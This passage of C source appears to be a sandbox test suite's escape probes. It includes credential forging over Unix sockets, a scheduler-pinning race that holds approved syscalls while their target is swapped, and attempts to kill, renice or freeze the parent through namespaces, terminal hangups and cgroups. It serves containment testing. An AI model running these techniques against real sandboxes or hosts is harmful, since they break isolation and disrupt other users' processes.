  if (bad[0]) return escaped("peercred:%s", bad);
  if (!have_peer) return blocked("no reply from the server", EPROTO);
  return blocked("sendmsg(forged SCM_CREDENTIALS)", forged_err ? forged_err : EPROTO);
}

/* D, datagrams: as uid 65534 (dropping to it when root), sendmsg to the
 * datagram socket SOCKET with its address (the supervisor sends it), once
 * plain, once claiming pid 1, uid 0, gid 0. The server (the test) answers
 * each message it gets with "creds PID UID GID" to our address (SO_PASSCRED
 * binds us to one). */
static int dgram_exchange(int s, const char* path, const struct ucred* claim, char* reply, size_t len) {
  struct sockaddr_un un;
  memset(&un, 0, sizeof un);
  un.sun_family = AF_UNIX;
  snprintf(un.sun_path, sizeof un.sun_path, "%s", path);
  char cbuf[CMSG_SPACE(sizeof(struct ucred))];
  memset(cbuf, 0, sizeof cbuf);
  struct iovec v = {(void*)"hello", 5};
  struct msghdr mh;
  memset(&mh, 0, sizeof mh);
  mh.msg_name = &un;
  mh.msg_namelen = sizeof un;
  mh.msg_iov = &v;
  mh.msg_iovlen = 1;
  if (claim) {
    mh.msg_control = cbuf;
    mh.msg_controllen = sizeof cbuf;
    struct cmsghdr* cm = CMSG_FIRSTHDR(&mh);
    cm->cmsg_level = SOL_SOCKET;
    cm->cmsg_type = SCM_CREDENTIALS;
    cm->cmsg_len = CMSG_LEN(sizeof *claim);
    memcpy(CMSG_DATA(cm), claim, sizeof *claim);
  }
  reply[0] = 0;
  if (sendmsg(s, &mh, MSG_NOSIGNAL) < 0) return errno;
  struct pollfd pf = {s, POLLIN, 0};
  if (poll(&pf, 1, 3000) <= 0) return ETIMEDOUT;
  ssize_t n = recv(s, reply, len - 1, 0);
  reply[n > 0 ? n : 0] = 0;
  reply[strcspn(reply, "\n")] = 0;
  return 0;
}

static int peer_cred_dgram(const char* path) {
  if (privileged()) {
    int e = drop_to(65534);
    if (e) return blocked("drop to uid 65534", e);
  }
  const uid_t me = getuid();
  const gid_t my_gid = getgid();
  info("uid %u gid %u pid %d", me, my_gid, getpid());
  int s = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0), one = 1;
  if (s < 0 || setsockopt(s, SOL_SOCKET, SO_PASSCRED, &one, sizeof one) != 0) return blocked("socket", errno);
  char reply[256], bad[256] = "";
  int e = dgram_exchange(s, path, NULL, reply, sizeof reply);
  printf("plain: sendmsg: %s; server: %s\n", e ? en(e) : "OK", reply);
  int cpid = 0;
  unsigned cuid = 0, cgid = 0;
  if (e) return blocked("sendmsg(plain)", e);
  if (sscanf(reply, "creds %d %u %u", &cpid, &cuid, &cgid) == 3 && (cuid != me || cgid != my_gid))
    snprintf(bad, sizeof bad, " a plain datagram's credentials uid %u gid %u;", cuid, cgid);
  struct ucred forged = {1, 0, 0};
  int fe = dgram_exchange(s, path, &forged, reply, sizeof reply);
  printf("forged: sendmsg: %s; server: %s\n", fe ? en(fe) : "OK", reply);
  if (!fe && sscanf(reply, "creds %d %u %u", &cpid, &cuid, &cgid) == 3 && (cpid == 1 || cuid == 0 || cgid == 0))
    snprintf(bad + strlen(bad), sizeof bad - strlen(bad), " forged credentials pid %d uid %u gid %u accepted;", cpid,
             cuid, cgid);
  struct ucred parent = {getppid(), 0, 0};
  int pe = dgram_exchange(s, path, &parent, reply, sizeof reply);
  printf("parent: sendmsg: %s; server: %s\n", pe ? en(pe) : "OK", reply);
  if (!pe && sscanf(reply, "creds %d %u %u", &cpid, &cuid, &cgid) == 3 && (cuid == 0 || cgid == 0))
    snprintf(bad + strlen(bad), sizeof bad - strlen(bad), " credentials pid %d uid %u gid %u accepted;", cpid,
             cuid, cgid);
  struct ucred own = {getpid(), me, my_gid};
  int oe = dgram_exchange(s, path, &own, reply, sizeof reply);
  printf("own: sendmsg: %s; server: %s\n", oe ? en(oe) : "OK", reply);
  if (bad[0]) return escaped("peercred-dgram:%s", bad);
  return blocked("sendmsg(forged SCM_CREDENTIALS, datagram)", fe ? fe : EPROTO);
}

/* F, G: holding a caller between the supervisor's answer and the kernel's
 * action. A call the supervisor answers with CONTINUE is carried out by the
 * kernel only when the caller runs again. The caller here (nice 19) is
 * pinned to a CPU with a spinner (nice 0, 68 times its weight), which starts
 * once the caller waits for its answer: answered, the caller is runnable,
 * but the scheduler keeps running the spinner until it stops. Meanwhile
 * `act` runs on another CPU, and whatever the kernel then does, it does in
 * the world `act` left. This is the red-team's trick (SCHED_IDLE and busy
 * threads; nice 19 still gets into its call on a loaded machine) made a
 * handshake: a round counts as held only when the caller was seen waiting
 * (S) with the spinner running, then answered (R) and not yet returned. */
struct hold {
  int cpu;                      /* the caller's and the spinner's */
  pid_t tid;                    /* the caller's */
  atomic_int go, in_call, done, spin, spinning, quit;
  long (*call)(void*);
  void* arg;
  long ret;
  int err;
};

static void futex_wait_(atomic_int* a, int val) { syscall(SYS_futex, a, FUTEX_WAIT_PRIVATE, val, NULL, NULL, 0); }
static void futex_wake_(atomic_int* a) { syscall(SYS_futex, a, FUTEX_WAKE_PRIVATE, INT_MAX, NULL, NULL, 0); }

static void pin_to(int cpu) {
  cpu_set_t s;
  CPU_ZERO(&s);
  CPU_SET(cpu, &s);
  (void)sched_setaffinity(0, sizeof s, &s);
}

static void* hold_caller(void* a) {
  struct hold* h = a;
  pin_to(h->cpu);
  h->tid = gettid();
  atomic_store(&h->done, 1);
  futex_wake_(&h->done);
  for (;;) {
    while (!atomic_load(&h->go)) futex_wait_(&h->go, 0);
    atomic_store(&h->go, 0);
    if (atomic_load(&h->quit)) return NULL;
    (void)setpriority(PRIO_PROCESS, 0, 19); /* again: a group call may have changed it */
    atomic_store(&h->in_call, 1);
    long r = h->call(h->arg);
    h->err = r < 0 ? errno : 0;
    h->ret = r;
    atomic_store(&h->in_call, 0);
    atomic_store(&h->done, 1);
  }
}

static void* hold_spinner(void* a) {
  struct hold* h = a;
  pin_to(h->cpu);
  for (;;) {
    while (!atomic_load(&h->spin)) futex_wait_(&h->spin, 0);
    if (atomic_load(&h->quit)) return NULL;
    atomic_store(&h->spinning, 1);
    /* quit too: the last round's spin=0 may go unseen here when hold_stop
     * sets spin=1 again at once; the spinner would spin for ever and the
     * join in hold_stop would never return */
    while (atomic_load(&h->spin) && !atomic_load(&h->quit)) {
    }
    atomic_store(&h->spinning, 0);
  }
}

/* The state letter of /proc/self/task/TID/stat, read through `fd`. */
static char task_state(int fd) {
  char b[512];
  ssize_t n = pread(fd, b, sizeof b - 1, 0);
  if (n <= 0) return '?';
  b[n] = 0;
  char* rp = strrchr(b, ')');
  return rp && rp[1] == ' ' ? rp[2] : '?';
}

static pthread_t hold_threads[2];
static int hold_stat_fd = -1;

/* The share of `cpu` a thread of ours gets over 20 ms (its CPU time over
 * the wall time, per mille): run on that CPU. */
static void* cpu_share_probe(void* arg) {
  intptr_t* cpu = arg;
  pin_to((int)*cpu);
  struct timespec c0, c1;
  clock_gettime(CLOCK_THREAD_CPUTIME_ID, &c0);
  long end = now_ms() + 20;
  while (now_ms() < end) {
  }
  clock_gettime(CLOCK_THREAD_CPUTIME_ID, &c1);
  *cpu = ((c1.tv_sec - c0.tv_sec) * 1000000000L + (c1.tv_nsec - c0.tv_nsec)) / 20000L;
  return NULL;
}

/* Starts the caller and the spinner on the CPU where we get the most time
 * (of the first 16 we may use: one that something else keeps busy, a
 * real-time task say, would starve the caller before its call); this thread
 * moves to the others (if any). 0 or errno. */
static int hold_start(struct hold* h) {
  cpu_set_t mine;
  if (sched_getaffinity(0, sizeof mine, &mine) != 0) return errno;
  int pick = -1, count = CPU_COUNT(&mine), tried = 0;
  intptr_t best = -1;
  for (int i = 0; i < CPU_SETSIZE && tried < 16; ++i) {
    if (!CPU_ISSET(i, &mine)) continue;
    ++tried;
    intptr_t share = i;
    pthread_t t;
    if (count > 1 && pthread_create(&t, NULL, cpu_share_probe, &share) == 0) pthread_join(t, NULL);
    if (share >= best) best = share, pick = i;
  }
  h->cpu = pick;
  info("holding on cpu %d of %d (%ld per mille of it for us)", pick, count, (long)best);
  if (count > 1) {
    CPU_CLR(pick, &mine);
    (void)sched_setaffinity(0, sizeof mine, &mine);
  }
  atomic_store(&h->done, 0);
  pthread_create(&hold_threads[0], NULL, hold_caller, h);
  pthread_create(&hold_threads[1], NULL, hold_spinner, h);
  while (!atomic_load(&h->done)) futex_wait_(&h->done, 0);
  char path[64];
  snprintf(path, sizeof path, "/proc/self/task/%d/stat", h->tid);
  hold_stat_fd = open(path, O_RDONLY | O_CLOEXEC);
  return hold_stat_fd < 0 ? errno : 0;
}

static void hold_stop(struct hold* h) {
  atomic_store(&h->quit, 1);
  atomic_store(&h->go, 1);
  futex_wake_(&h->go);
  atomic_store(&h->spin, 1);
  futex_wake_(&h->spin);
  pthread_join(hold_threads[0], NULL);
  pthread_join(hold_threads[1], NULL);
  close(hold_stat_fd);
}

/* Rounds go on until `want` of them were held or 4 s have passed: how many
 * are held depends on how fast the supervisor answers (a few to most). */
#define HOLD_BUDGET_MS 4000

/* One call of h->call; `act` runs while the answered caller is held.
 * 1: held (act ran), 0: not held (act did not run), -1: the caller never
 * returned (10 s). */
static int hold_round(struct hold* h, void (*act)(void*), void* act_arg) {
  atomic_store(&h->done, 0);
  atomic_store(&h->go, 1);
  futex_wake_(&h->go);
  long end = now_ms() + 1000;
  int waiting = 0, held = 0;
  /* 1. the caller waits for its answer */
  while (!atomic_load(&h->done) && now_ms() < end) {
    if (atomic_load(&h->in_call) && task_state(hold_stat_fd) == 'S') {
      waiting = 1;
      break;
    }
  }
  if (waiting) {
    atomic_store(&h->spin, 1);
    futex_wake_(&h->spin);
    while (!atomic_load(&h->spinning) && now_ms() < end) {
    }
    /* 2. still waiting with the spinner on its CPU: once answered, it is held */
    if (atomic_load(&h->spinning) && !atomic_load(&h->done) && task_state(hold_stat_fd) == 'S') {
      while (!atomic_load(&h->done) && now_ms() < end) {
        if (task_state(hold_stat_fd) == 'R') {
          held = 1;
          break;
        }
      }
    }
  }
  if (held) act(act_arg);
  atomic_store(&h->spin, 0);
  end = now_ms() + 10000;
  while (!atomic_load(&h->done))
    if (now_ms() > end) return -1;
  return held;
}

/* F: a call on a pid that does not exist yet. Starts after a line on
 * stdin (then, with DENIED, a burst of denied creations: a supervisor that
 * starts threads on demand does it now); prints DONE and waits for EOF on
 * stdin before exiting (the test looks at the parent meanwhile). Each
 * round predicts the next
 * pid (ns_last_pid + 1) and calls prlimit64(that pid, RLIMIT_MSGQUEUE, 4096);
 * while the answered call is held, a FIFO open makes the supervisor start a
 * thread, which takes that pid. Were the call let through when checked,
 * the kernel would then set the supervisor's limit. The call must fail
 * (ESRCH: nobody had that pid when it was checked) every time. */
struct fpid {
  pid_t target;
  const char* fifo;
  int last_pid_fd;
  atomic_int open_go, open_done;
  pid_t taken;  /* ns_last_pid after the act */
};

static pid_t last_pid(int fd) {
  char b[32];
  ssize_t n = pread(fd, b, sizeof b - 1, 0);
  if (n <= 0) return -1;
  b[n] = 0;
  return atoi(b);
}

static long fpid_call(void* a) {
  struct fpid* f = a;
  struct rlimit lim = {4096, 4096};
  return syscall(__NR_prlimit64, f->target, RLIMIT_MSGQUEUE, &lim, NULL);
}

static void* fifo_opener(void* a) {
  struct fpid* f = a;
  for (;;) {
    while (!atomic_load(&f->open_go)) futex_wait_(&f->open_go, 0);
    atomic_store(&f->open_go, 0);
    if (!f->fifo) return NULL;
    int fd = open(f->fifo, O_WRONLY | O_CLOEXEC); /* blocks on a supervisor thread until a reader comes */
    if (fd >= 0) close(fd);
    atomic_store(&f->open_done, 1);
  }
}

static void fpid_act(void* a) {
  struct fpid* f = a;
  atomic_store(&f->open_go, 1);
  futex_wake_(&f->open_go);
  long end = now_ms() + 100;
  while (now_ms() < end && (f->taken = last_pid(f->last_pid_fd)) < f->target) {
  }
}

/* Four threads creat(path) 25 times each at once: denied calls, each
 * reported, keep several supervisor workers busy together. */
static void* denied_burst(void* arg) {
  for (int i = 0; i < 25; ++i) {
    long fd = syscall(__NR_creat, (const char*)arg, 0644);
    if (fd >= 0) close((int)fd);
  }
  return NULL;
}

static int future_pid(int want, const char* fifo, const char* denied) {
  printf("ppid=%d\nWAITING\n", getppid());
  fflush(stdout);
  char line[16];
  read_line(line, sizeof line);
  if (denied) {
    pthread_t t[4];
    for (int i = 0; i < 4; ++i) pthread_create(&t[i], NULL, denied_burst, (void*)denied);
    for (int i = 0; i < 4; ++i) pthread_join(t[i], NULL);
  }
  struct fpid f;
  memset(&f, 0, sizeof f);
  f.fifo = fifo;
  f.last_pid_fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
  if (f.last_pid_fd < 0) return blocked("open ns_last_pid", errno);
  struct hold h;
  memset(&h, 0, sizeof h);
  h.call = fpid_call;
  h.arg = &f;
  int e = hold_start(&h);
  if (e) return blocked("hold setup", e);
  pthread_t opener; /* started here: off the caller's CPU, like this thread */
  pthread_create(&opener, NULL, fifo_opener, &f);
  int rounds = 0, held = 0, taken = 0, passed = 0, first_err = 0;
  pid_t passed_pid = 0;
  long t0 = now_ms();
  for (; held < want && now_ms() - t0 < HOLD_BUDGET_MS; ++rounds) {
    f.target = last_pid(f.last_pid_fd) + 1;
    f.taken = 0;
    atomic_store(&f.open_done, 0);
    int r = hold_round(&h, fpid_act, &f);
    if (r < 0) return blocked("the held call never returned", ETIMEDOUT);
    if (r == 1) {
      ++held;
      int rd = open(fifo, O_RDONLY | O_NONBLOCK | O_CLOEXEC); /* lets the writer's open finish */
      long end = now_ms() + 2000;
      while (!atomic_load(&f.open_done) && now_ms() < end) sleep_ms(1);
      if (rd >= 0) close(rd);
      if (!atomic_load(&f.open_done)) return blocked("the FIFO open never finished", ETIMEDOUT);
      if (f.taken >= f.target) ++taken;
    }
    if (h.ret == 0) {
      ++passed;
      passed_pid = f.target;
    } else if (!first_err) {
      first_err = h.err;
    }
  }
  info("future-pid: %d rounds in %ld ms, %d held, %d with the pid taken meanwhile, %d let through", rounds,
       now_ms() - t0, held, taken, passed);
  printf("rounds %d held %d taken %d\n", rounds, held, taken);
  f.fifo = NULL;
  atomic_store(&f.open_go, 1);
  futex_wake_(&f.open_go);
  pthread_join(opener, NULL);
  hold_stop(&h);
  printf("DONE\n");
  fflush(stdout);
  wait_stdin_eof();
  if (passed) return escaped("future-pid: prlimit64 on pid %d, which did not exist when checked, succeeded (%d times)",
                             passed_pid, passed);
  return blocked("prlimit64(a pid that does not exist yet)", first_err);
}

/* G: setpriority (the parent's nice + 1) / ioprio_set (best effort, 7) on
 * the caller's own process group (0), from a group of its own: only the
 * sandbox. While the answered call is held,
 * the process joins the parent's group. Were the call let through when
 * checked, the kernel would then act on the parent's group, the parent
 * included. The parent's priority must stay as it was. */
#define SA_IOPRIO_WHO_PGRP 2
#define SA_IOPRIO_CLASS_BE 2
struct grace {
  int io;
  pid_t parent_group;
  long value; /* what the call sets */
};

static long grace_call(void* a) {
  struct grace* g = a;
  if (g->io) return syscall(__NR_ioprio_set, SA_IOPRIO_WHO_PGRP, 0, g->value);
  return syscall(__NR_setpriority, PRIO_PGRP, 0, g->value);
}

static void grace_act(void* a) {
  struct grace* g = a;
  (void)setpgid(0, g->parent_group);
}

static long parent_prio(int io, pid_t p) {
  errno = 0;
  return io ? syscall(__NR_ioprio_get, SA_IOPRIO_WHO_PROCESS, p) : getpriority(PRIO_PROCESS, p);
}

static int group_race(const char* what, int want) {
  struct grace g = {strcmp(what, "ioprio") == 0, getpgrp(), 0};
  const pid_t p = getppid();
  const long before = parent_prio(g.io, p);
  /* One step nicer than the parent: enough to see, and no burden on our
   * own threads, which the calls renice as well. */
  const long changed = g.value = g.io ? SA_IOPRIO_PRIO_VALUE(SA_IOPRIO_CLASS_BE, 7) : before + 1;
  printf("parent %d group %d %s %ld\n", p, g.parent_group, g.io ? "ioprio" : "nice", before);
  if (before == changed || (!g.io && before >= 19)) {
    printf("SETUP the parent's value is already %ld\n", before);
    return 2;
  }
  /* The plain attempt, from the parent's group: refused. */
  long r = grace_call(&g);
  printf("in the parent's group: %s\n", r == 0 ? "OK" : en(errno));
  if (parent_prio(g.io, p) == changed) return escaped("group-race: %s of the parent's group", what);
  if (setpgid(0, 0) != 0) return blocked("setpgid(0, 0)", errno);
  struct hold h;
  memset(&h, 0, sizeof h);
  h.call = grace_call;
  h.arg = &g;
  int e = hold_start(&h);
  if (e) return blocked("hold setup", e);
  int rounds = 0, held = 0, oks = 0, hit = 0;
  long t0 = now_ms();
  for (; held < want && !hit && now_ms() - t0 < HOLD_BUDGET_MS; ++rounds) {
    int k = hold_round(&h, grace_act, &g);
    if (k < 0) return blocked("the held call never returned", ETIMEDOUT);
    held += k;
    oks += h.ret == 0;
    if (setpgid(0, 0) != 0) return blocked("setpgid(0, 0)", errno);
    if (parent_prio(g.io, p) == changed) hit = rounds + 1;
  }
  info("group-race: %d rounds in %ld ms, %d held, %d calls returned 0", rounds, now_ms() - t0, held, oks);
  printf("rounds %d held %d\n", rounds, held);
  hold_stop(&h);
  if (hit) return escaped("group-race: %s of the parent reached through its group (round %d)", what, hit);
  return blocked("group-race (the parent untouched)", EPERM);
}

/* H: from a pid namespace of its own, group 0 is still the caller's
 * process group, which it shares with the parent: kill(0, SIGALRM) (the
 * caller ignores SIGALRM) or setpriority(PRIO_PGRP, 0, 19). The parent must
 * survive, its nice unchanged. */
static int pidns_group(const char* what) {
  const pid_t p = getppid();
  const int kill_mode = strcmp(what, "kill") == 0;
  errno = 0;
  const int before = getpriority(PRIO_PROCESS, p);
  printf("parent %d nice %d\n", p, before);
  if (!kill_mode && before == 19) {
    printf("SETUP the parent's nice is already 19\n");
    return 2;
  }
  if (kill_mode) signal(SIGALRM, SIG_IGN);
  int e = privileged() ? (unshare(CLONE_NEWPID) == 0 ? 0 : errno) : enter_userns(CLONE_NEWPID, 0);
  if (e) {
    printf("SETUP unshare(CLONE_NEWPID): %s\n", en(e));
    return 2;
  }
  fflush(stdout);
  pid_t c = fork();
  if (c == 0) {
    long r = kill_mode ? kill(0, SIGALRM) : setpriority(PRIO_PGRP, 0, 19);
    int err = errno;
    printf("in a new pid namespace (pid %d): %s(group 0): %s\n", getpid(), kill_mode ? "kill" : "setpriority",
           r == 0 ? "OK" : en(err));
    fflush(stdout);
    _exit(r == 0 ? 0 : err);
  }
  int st;
  while (waitpid(c, &st, 0) < 0 && errno == EINTR) {
  }
  const int r = WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
  if (kill_mode) {
    if (parent_died(p, 500)) return escaped("pidns-group: kill(0) from a pid namespace of its own killed the parent");
    return blocked("kill(0) from a new pid namespace (the parent lives)", r ? r : EPERM);
  }
  if (getpriority(PRIO_PROCESS, p) == 19)
    return escaped("pidns-group: setpriority(group 0) from a pid namespace of its own reniced the parent");
  return blocked("setpriority(PRIO_PGRP, 0) from a new pid namespace (the parent untouched)", r ? r : EPERM);
}

/* I: signals to processes outside (VICTIM1, VICTIM2: process group leaders
 * running as root) after dropping to uid 65534, first as such, then from a
 * user namespace of its own, whose capabilities count for nothing outside
 * it: pidfd_send_signal to VICTIM1, kill(-VICTIM2), SIGTERM each. With
 * --no-drop (as root) they must work: the control that the victims can die
 * by these calls. */
static int victim_dead(int pidfd, int ms) {
  struct pollfd p = {pidfd, POLLIN, 0};
  return poll(&p, 1, ms) > 0;
}

static int userns_signal(pid_t v1, pid_t v2, int drop) {
  if (drop && privileged()) {
    int e = drop_to(65534);
    if (e) return blocked("drop to uid 65534", e);
  }
  int fd1 = (int)pidfd_open_(v1), fd2 = (int)pidfd_open_(v2);
  if (fd1 < 0 || fd2 < 0) return blocked("pidfd_open(victim)", errno);
  int e = 0;
  char died[256] = "";
  for (int ns = 0; ns < 2; ++ns) {
    if (ns) {
      if (unshare(CLONE_NEWUSER) != 0) return blocked("unshare(CLONE_NEWUSER)", errno);
      info("in a user namespace of our own (uid %d outside)", (int)geteuid());
    }
    const char* where = ns ? "in a user namespace of its own: " : "";
    if (!victim_dead(fd1, 0)) {
      long r = syscall(__NR_pidfd_send_signal, fd1, SIGTERM, NULL, 0);
      e = r == 0 ? e : errno;
      printf("%spidfd_send_signal(victim 1, SIGTERM): %s\n", where, r == 0 ? "OK" : en(errno));
      if (r == 0 && victim_dead(fd1, 1000))
        snprintf(died + strlen(died), sizeof died - strlen(died), " %spidfd_send_signal;", where);
    }
    if (!victim_dead(fd2, 0)) {
      long r = kill(-v2, SIGTERM);
      e = r == 0 ? e : errno;
      printf("%skill(-victim 2, SIGTERM): %s\n", where, r == 0 ? "OK" : en(errno));
      if (r == 0 && victim_dead(fd2, 1000))
        snprintf(died + strlen(died), sizeof died - strlen(died), " %skill(-pgrp);", where);
    }
  }
  if (died[0]) return escaped("userns-signal: victims killed by%s", died);
  if (victim_dead(fd1, 0) || victim_dead(fd2, 0)) return escaped("userns-signal: a victim died");
  return blocked("signals from a user namespace of its own", e ? e : EPERM);
}

/* J: hanging up the terminal, which sends SIGHUP to its session leader
 * (the user's shell, outside the sandbox). */
#ifndef TIOCVHANGUP
#define TIOCVHANGUP 0x5437
#endif
static int hangup(int by_ioctl) {
  signal(SIGHUP, SIG_IGN);
  long r;
  if (by_ioctl) {
    int fd = tty_fd();
    if (fd < 0) return blocked("open tty", errno);
    r = ioctl(fd, TIOCVHANGUP);
  } else {
    r = vhangup();
  }
  if (r != 0) return blocked(by_ioctl ? "ioctl(TIOCVHANGUP)" : "vhangup", errno);
  return escaped("%s: the terminal was hung up", by_ioctl ? "tiocvhangup" : "vhangup");
}

/* J: job control. The caller's process group is the parent's; it puts a
 * child of its own in the terminal's foreground, then reads from the
 * terminal (ttin) or writes to it with TOSTOP set (ttou): the kernel stops
 * the caller's whole group, the parent included, unless a member ignores
 * the signal. The child looks at the parent after 300 ms (its state in
 * /proc where it can see it, and whether a call the parent must answer
 * comes back), gives the terminal back and continues the caller. */
static char proc_state(pid_t pid) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/stat", pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return '?';
  char c = task_state(fd);
  close(fd);
  return c;
}

static atomic_int probe_back;
static void* probe_thread(void* arg) {
  pid_t a = (pid_t)(intptr_t)arg;
  errno = 0;
  int n = getpriority(PRIO_PROCESS, a);
  (void)setpriority(PRIO_PROCESS, a, n); /* no change; a call the supervisor checks */
  atomic_store(&probe_back, 1);
  return NULL;
}

static int tty_stop(const char* how) {
  const int ttou = strcmp(how, "ttou") == 0;
  if (!isatty(0)) return blocked("stdin is no terminal", ENOTTY);
  const pid_t p = getppid(), me = getpid(), g = getpgrp();
  struct termios saved, t;
  if (ttou) {
    if (tcgetattr(0, &saved) != 0) return blocked("tcgetattr", errno);
    t = saved;
    t.c_lflag |= TOSTOP;
    if (tcsetattr(0, TCSANOW, &t) != 0) return blocked("tcsetattr(TOSTOP)", errno);
  }
  int vp[2];
  if (pipe(vp) != 0) return 100;
  fflush(stdout);
  pid_t b = fork();
  if (b == 0) {
    setpgid(0, 0);
    signal(SIGTTOU, SIG_IGN);
    sleep_ms(300);
    char st = proc_state(p);
    pthread_t pt;
    pthread_create(&pt, NULL, probe_thread, (void*)(intptr_t)me);
    long end = now_ms() + 300;
    while (!atomic_load(&probe_back) && now_ms() < end) sleep_ms(5);
    const int stopped = st == 'T' || !atomic_load(&probe_back);
    char v = stopped ? 'S' : 'R';
    (void)tcsetpgrp(0, g);
    kill(me, SIGCONT);
    if (write(vp[1], &v, 1) != 1) _exit(1);
    dprintf(2, "# tty-stop: parent state %c, a checked call %s\n", st,
            atomic_load(&probe_back) ? "came back" : "did not come back");
    _exit(0);
  }
  close(vp[1]);
  setpgid(b, b);
  if (tcsetpgrp(0, b) != 0) return blocked("tcsetpgrp(child)", errno);
  long r;
  if (ttou) {
    r = write(1, "# from the background\n", 22);
  } else {
    fcntl(0, F_SETFL, fcntl(0, F_GETFL) | O_NONBLOCK);
    char c;
    r = read(0, &c, 1);
    fcntl(0, F_SETFL, fcntl(0, F_GETFL) & ~O_NONBLOCK);
  }
  int e = errno;
  char v = '?';
  if (read(vp[0], &v, 1) != 1) v = '?';
  while (waitpid(b, NULL, 0) < 0 && errno == EINTR) {
  }
  if (ttou) (void)tcsetattr(0, TCSANOW, &saved);
  printf("# %s from the background: %s\n", ttou ? "write" : "read", r >= 0 ? "OK" : en(e));
  if (v == 'S') return escaped("tty-stop(%s): the parent was stopped", how);
  if (v != 'R') return blocked("tty-stop: no word from the child", EPROTO);
  printf("BLOCKED tty-stop(%s): the parent kept running\n", how);
  return 1;
}

/* J: launcher. CMD as a job of an interactive session on a fresh pty, the
 * way a shell with job control runs it: the "shell" leads the session, the
 * job has a process group of its own in the foreground. A stopped job is
 * reported ("tty-session: job stopped by signal N") and, a second later,
 * brought back (fg); then "tty-session: job status N". The terminal's
 * output is copied to stdout. */
static int tty_session(char** cmd) {
  int m = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
  if (m < 0 || grantpt(m) != 0 || unlockpt(m) != 0) return 100;
  char name[128];
  if (ptsname_r(m, name, sizeof name) != 0) return 101;
  fflush(stdout);
  pid_t sh = fork();
  if (sh == 0) {
    close(m);
    if (setsid() < 0) _exit(102);
    int s = open(name, O_RDWR | O_CLOEXEC);
    if (s < 0 || ioctl(s, TIOCSCTTY, 0) != 0) _exit(103);
    signal(SIGTTOU, SIG_IGN);
    pid_t job = fork();
    if (job == 0) {
      setpgid(0, 0);
      (void)tcsetpgrp(s, getpid());
      signal(SIGTTOU, SIG_DFL);
      dup2(s, 0);
      dup2(s, 1);
      dup2(s, 2);
      execvp(cmd[0], cmd);
      _exit(127);
    }
    setpgid(job, job);
    (void)tcsetpgrp(s, job);
    int st = 0;
    for (;;) {
      pid_t w = waitpid(job, &st, WUNTRACED);
      if (w < 0 && errno == EINTR) continue;
      if (w < 0) break;
      if (WIFSTOPPED(st)) {
        dprintf(1, "tty-session: job stopped by signal %d\n", WSTOPSIG(st));
        sleep_ms(1000);
        (void)tcsetpgrp(s, job);
        kill(-job, SIGCONT);
        continue;
      }
      break;
    }
    int code = WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
    dprintf(1, "tty-session: job status %d\n", code);
    _exit(code);
  }
  int st = 0, done = 0;
  long drain_until = 0;
  char buf[4096];
  for (;;) {
    if (!done && waitpid(sh, &st, WNOHANG) == sh) done = 1, drain_until = now_ms() + 300;
    if (done && now_ms() > drain_until) break;
    struct pollfd pf = {m, POLLIN, 0};
    if (poll(&pf, 1, 50) <= 0) continue;
    ssize_t n = read(m, buf, sizeof buf);
    if (n <= 0) {
      if (!done) {
        while (waitpid(sh, &st, 0) < 0 && errno == EINTR) {
        }
        done = 1;
      }
      break;
    }
    if (write(1, buf, (size_t)n) != n) break;
  }
  return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
}

/* K: root inside moves the parent into a cgroup of its own making (where a
 * freezer or a memory limit would stop or kill it). Moves it back after
 * EOF on stdin. */
static int cgroup_path(const char* root, char* out, size_t len) {
  const char* want = strstr(root, "/freezer") ? ":freezer:" : NULL;
  FILE* f = fopen("/proc/self/cgroup", "r");
  if (!f) return -1;
  char line[512];
  int found = -1;
  while (fgets(line, sizeof line, f)) {
    line[strcspn(line, "\n")] = 0;
    const char* at = want ? strstr(line, want) : (strncmp(line, "0::", 3) == 0 ? line + 1 : NULL);
    if (!at) continue;
    snprintf(out, len, "%s", strchr(at + 1, ':') + 1);
    if (strcmp(out, "/") == 0) out[0] = 0;
    found = 0;
    break;
  }
  fclose(f);
  return found;
}

static int cgroup_move(void) {
  const pid_t p = getppid();
  const char* roots[] = {"/sys/fs/cgroup/freezer", "/sys/fs/cgroup/unified", "/sys/fs/cgroup"};
  const char* root = NULL;
  char procs[1024], orig[512], dir[256], num[32];
  for (size_t i = 0; i < sizeof roots / sizeof roots[0] && !root; ++i) {
    snprintf(procs, sizeof procs, "%s/cgroup.procs", roots[i]);
    if (access(procs, F_OK) == 0 && cgroup_path(roots[i], orig, sizeof orig) == 0) root = roots[i];
  }
  if (!root) {
    printf("SETUP no cgroup hierarchy found\n");
    return 2;
  }
  printf("ppid=%d\n# hierarchy %s, the parent in %s/\n", p, root, orig);
  snprintf(num, sizeof num, "%d", p);
  snprintf(dir, sizeof dir, "%s/syd-attack-%d", root, getpid());
  if (mkdir(dir, 0755) != 0) {
    int e = errno;
    printf("mkdir %s: %s\n", dir, en(e));
    snprintf(procs, sizeof procs, "%s%s/cgroup.procs", root, orig);
    int w = write_file(procs, num) == 0 ? 0 : errno;
    printf("write %s: %s\n", procs, w ? en(w) : "OK");
    int m = mount(NULL, root, NULL, MS_REMOUNT | MS_BIND, NULL) == 0 ? 0 : errno;
    printf("remount %s read-write: %s\n", root, m ? en(m) : "OK");
    if (!w) return escaped("cgroup-move: %s written", procs);
    if (!m) return escaped("cgroup-move: %s remounted read-write", root);
    return blocked("mkdir in the cgroup hierarchy", e);
  }
  snprintf(procs, sizeof procs, "%s/cgroup.procs", dir);
  if (write_file(procs, num) != 0) {
    int e = errno;
    rmdir(dir);
    return blocked("write cgroup.procs", e);
  }
  printf("MOVED %s\n", dir);
  fflush(stdout);
  wait_stdin_eof();
  snprintf(procs, sizeof procs, "%s%s/cgroup.procs", root, orig);
  int back = write_file(procs, num) == 0;
  rmdir(dir);
  return escaped("cgroup-move: the parent %d moved into %s (moved back: %s)", p, dir, back ? "yes" : "NO");
}

/* M: /proc/self/autogroup is the caller's own file, but the autogroup is
 * its session's: the parent's, and the user's shell's when they share it.
 * Written through /proc/self, /proc/PID and a /proc/self directory fd. */
static int autogroup(const char* nice) {
  char before[128] = "", after[128] = "", p2[64];
  int e = 0;
